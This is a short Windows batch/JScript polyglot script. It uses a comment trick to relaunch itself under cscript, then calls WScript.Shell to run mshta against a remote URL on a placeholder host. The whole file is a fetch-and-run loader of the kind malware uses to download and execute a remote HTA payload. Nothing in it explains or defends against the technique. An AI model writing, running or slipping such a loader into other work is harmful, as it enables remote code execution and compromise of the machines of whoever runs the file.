@if (@X)==(@Y) @end /* JScript comment
@echo off
cscript //e:jscript //nologo "%~f0" %*
exit /b 0
*/
new ActiveXObject("WScript.Shell").Run("mshta http://p1.example/k");
